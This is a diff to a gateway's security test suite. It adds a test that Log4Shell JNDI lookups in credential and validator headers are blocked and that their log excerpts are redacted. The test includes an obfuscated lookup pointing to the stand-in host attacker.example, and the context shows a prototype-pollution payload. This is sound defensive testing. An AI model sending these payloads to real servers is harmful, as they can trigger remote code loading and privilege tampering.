@@ -96,6 +96,23 @@ test('an attack in a secret field is blocked and its excerpt is not logged', asy
   assert.ok(!JSON.stringify(events).includes('hunter2'), 'the password appears in no record');
 });
 
+test('Log4Shell lookups in credentials and validators (logged as they come) are blocked; their excerpt is redacted', async () => {
+  const basic = Buffer.from(`${JNDI}:secret`).toString('base64');
+  const sent: Record<string, string>[] = [{ authorization: `Bearer ${JNDI}` }, { authorization: `Basic ${basic}` }, { 'if-none-match': '${${lower:j}ndi:ldap://attacker.example/a}' }];
+  for (const headers of sent) {
+    const res = await send('/api/me', { headers });
+    assert.equal(res.status, 403, JSON.stringify(headers));
+    assert.equal(res.problem.reason, 'jndi_detected');
+    const event = (await gw.logs()).find((r) => r.type === 'security' && r.requestId === res.headers['x-request-id']);
+    if ('authorization' in headers) assert.equal(event?.excerpt, '[redacted]');
+  }
+  // ordinary credentials pass: a JWT, a password with $ and %
+  const password = Buffer.from('kim:pa$$w0rd%1').toString('base64');
+  for (const authorization of ['Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', `Basic ${password}`]) {
+    assert.equal((await send('/api/me', { headers: { authorization, 'if-none-match': 'W/"5f3c-$1"' } })).status, 200);
+  }
+});
+
 test('a JSON body that walks constructor -> prototype is blocked, wherever the names first appeared', async () => {
   const body = JSON.stringify([{ meta: { prototype: 'x' } }, { settings: { constructor: { prototype: { isAdmin: true } } } }]);
   const res = await send('/api/profile', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
